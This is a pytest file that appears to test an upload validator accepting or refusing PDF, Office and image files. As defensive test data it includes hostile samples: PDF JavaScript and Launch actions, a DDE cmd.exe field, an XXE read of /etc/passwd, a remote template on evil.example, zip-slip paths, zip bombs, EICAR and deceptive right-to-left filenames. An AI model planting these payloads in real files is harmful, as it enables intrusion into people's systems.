"""What is taken and what is refused: by its content, and in words for the person."""

import io
import zipfile

import pytest
from django.utils.translation import override

from foundation.files.rules import LARGEST, finding, name_fault, shown_name
from foundation.files.rules.traces import EICAR
from tests.foundation.files.making import (
    PDF,
    jpeg,
    office,
    packed,
    pdf_with,
    pdf_with_packed,
    png,
    related,
)

rels = "word/_rels/document.xml.rels"
core = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"}
GOOD = {
    "项目申报书（终稿）.pdf": PDF,
    "script in words.pdf": pdf_with(b"/Title (How JavaScript began)"),
    "packed.pdf": pdf_with_packed(b"<< /Type /Page /JavaScriptness 1 >>"),
    "计划.docx": office("docx"),
    "link.docx": office("docx", {rels: related("hyperlink", "https://example.org")}),
    "ours.docx": office(
        "docx", {rels: related("attachedTemplate", "file:///C:\\a.dotm")}
    ),
    "预算.xlsx": office("xlsx", {"xl/worksheets/sheet1.xml": "<a/>" * 9_000}),
    "chart.pptx": office("pptx", {"ppt/embeddings/book.xlsx": office("xlsx")}),
    "执照.JPG": jpeg(),
    "章.png": png(),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_people_really_send_is_taken(name):
    assert finding(name, GOOD[name]) is None
    assert name_fault(name) is None


OTHER = "not what its name says"
MACROS = "macros"
ACTIVE = "scripts or embedded files"
VIRUS = "virus scan"
BOMB = "far more than it should"
AWAY = "loads parts from elsewhere"
OUTSIDE = "damaged or protected"
TYPES = "Only PDF"
HOSTILE = [
    # not what it says it is
    ("empty.pdf", b"", "empty"),
    ("large.pdf", PDF.ljust(LARGEST + 1, b" "), "50 MB"),
    ("page.pdf", b"<html><script>alert(1)</script>", OTHER),
    ("program.pdf", b"MZ\x90\0" + PDF, OTHER),
    ("both.pdf", b"<html>\n" + PDF, OTHER),
    ("archive.pdf", PDF[:-6] + packed({"a.exe": b"MZ"}) + b"%%EOF\n", OTHER),
    ("page too.pdf", PDF.replace(b"1 0 obj", b"%<script src=x>\n1 0 obj"), OTHER),
    ("picture.svg", b"<svg onload='alert(1)'/>", TYPES),
    ("page.html", b"<html></html>", TYPES),
    ("macro.docm", office("docx"), TYPES),
    ("plan.pdf.exe", PDF, TYPES),
    ("sheet.docx", office("xlsx"), OTHER),
    ("archive.docx", packed({"a.txt": b"a"}), OTHER),
    ("cut.pdf", PDF[:-8], "cut off"),
    ("cut.docx", office("docx")[:-30], OUTSIDE),
    # pictures that are something else besides, or kill whoever opens them
    ("zip.png", png() + packed({"a": b"a"}), "damaged"),
    ("zip.jpg", jpeg() + packed({"a": b"a"}), OTHER),
    ("page.jpg", jpeg() + b"<script >alert(1)</script>\xff\xd9", OTHER),
    ("bomb.png", png(30_000, 30_000), "million pixels"),
    ("bomb.jpg", jpeg(60_000, 60_000), "million pixels"),
    # PDF that acts by itself
    ("script.pdf", pdf_with(b"/S /JavaScript /JS (app.alert(1))"), ACTIVE),
    ("escaped.pdf", pdf_with(b"/S /J#61vaScr#69pt /JS (app.alert(1))"), ACTIVE),
    ("packed.pdf", pdf_with_packed(b"<< /S /JavaScript /JS (x) >>"), ACTIVE),
    ("launch.pdf", pdf_with(b"/S /Launch /F (cmd.exe)"), ACTIVE),
    ("rendition.pdf", pdf_with(b"/S /Rendition /OP 0 /JS (app.alert(1))"), ACTIVE),
    ("inside.pdf", pdf_with(b"/Type /EmbeddedFile"), ACTIVE),
    ("many.pdf", pdf_with(b"/Names << /EmbeddedFiles 3 0 R >>"), ACTIVE),
    ("secret.pdf", pdf_with(b"/Encrypt 5 0 R"), ACTIVE),
    # office files that act, or load what acts
    ("macro.docx", packed(core | {"word/vbaProject.bin": b"x"}), MACROS),
    ("macro.xlsx", packed({
        "[Content_Types].xml": "<Override Type='x.macroEnabled.main+xml'/>",
        "xl/workbook.xml": "<workbook/>",
    }), MACROS),
    ("program.docx", packed(core | {"word/embeddings/a.exe": b"MZ"}), MACROS),
    ("ole.docx", packed(core | {"word/embeddings/oleObject1.bin": b"x"}), MACROS),
    ("template.docx", packed(
        core | {rels: related("attachedTemplate", "http://evil.example/a.dotm")}
    ), AWAY),
    ("share.docx", packed(core | {rels: related("image", r"\\evil\share")}), AWAY),
    ("dde.docx", packed(core | {
        "word/header1.xml": "<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"
    }), AWAY),
    ("entity.docx", packed(core | {
        "word/styles.xml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"
    }), OTHER),
    # archives that lie
    ("bomb.docx", packed(core | {"word/a.xml": b"\0" * 60_000_000}), BOMB),
    ("many.docx", packed(core | {f"word/{n}.xml": b"" for n in range(2_000)}), BOMB),
    ("away.docx", packed(core | {"../../etc/cron.d/a": b"x"}), OUTSIDE),
    ("root.docx", packed(core | {"/etc/cron.d/a": b"x"}), OUTSIDE),
    # what every virus scanner has to find
    ("eicar.pdf", PDF.replace(b"trailer", b"%" + EICAR + b"\ntrailer"), VIRUS),
    ("eicar.docx", packed(core | {"word/media/a.txt": EICAR}), VIRUS),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "why"), HOSTILE, ids=[f"{n}-{w}" for n, _, w in HOSTILE]
)
def test_what_is_hostile_is_refused_and_the_person_reads_why(name, content, why):
    with override("en"):
        found = str(finding(name, content) or "")

    assert why in found


def test_a_link_in_an_archive_is_refused():
    link = zipfile.ZipInfo("word/passwd.xml")
    link.external_attr = 0o120777 << 16

    assert finding("a.docx", _with(link, b"/etc/passwd")) is not None


def test_a_member_that_declares_less_than_it_holds_is_refused():
    honest = packed(core | {"word/a.xml": b"\0" * 60_000_000})
    lying = honest.replace(
        (60_000_000).to_bytes(4, "little"), (9).to_bytes(4, "little")
    )

    assert finding("a.docx", lying) is not None


def _with(member, content: bytes) -> bytes:
    made = io.BytesIO(packed(core))
    with zipfile.ZipFile(made, "a") as package:
        package.writestr(member, content)
    return made.getvalue()


NAMES = [
    ("申报书\u202efdp.exe", "hidden characters"),
    ("a\u2066b.pdf", "hidden characters"),
    ("a\x00b.pdf", "hidden characters"),
    ("a\nb.pdf", "hidden characters"),
    ("../../etc/passwd.pdf", "a path"),
    (r"..\..\boot.pdf", "a path"),
    ("发票.exe.pdf", "two endings"),
    ("page.html.pdf", "two endings"),
]


@pytest.mark.parametrize(("name", "why"), NAMES)
def test_names_that_deceive_are_refused(name, why):
    with override("en"):
        assert why in str(name_fault(name))


@pytest.mark.parametrize(
    "name",
    [
        "项目申报书（终稿）.pdf",
        "2026.3.1 计划 v1.2.pdf",
        "𠮷野家—合同.docx",
        "（一）😀.png",
    ],
)
def test_names_that_people_use_are_kept(name):
    assert name_fault(name) is None
    assert shown_name(name) == name


def test_a_path_of_a_browser_is_taken_for_its_last_part():
    assert shown_name(r"C:\fakepath\计划.pdf") == "计划.pdf"


def test_a_long_chinese_name_is_cut_and_keeps_its_ending():
    shown = shown_name("项" * 300 + ".pdf")

    assert len(shown) <= 120
    assert shown.endswith("项.pdf")
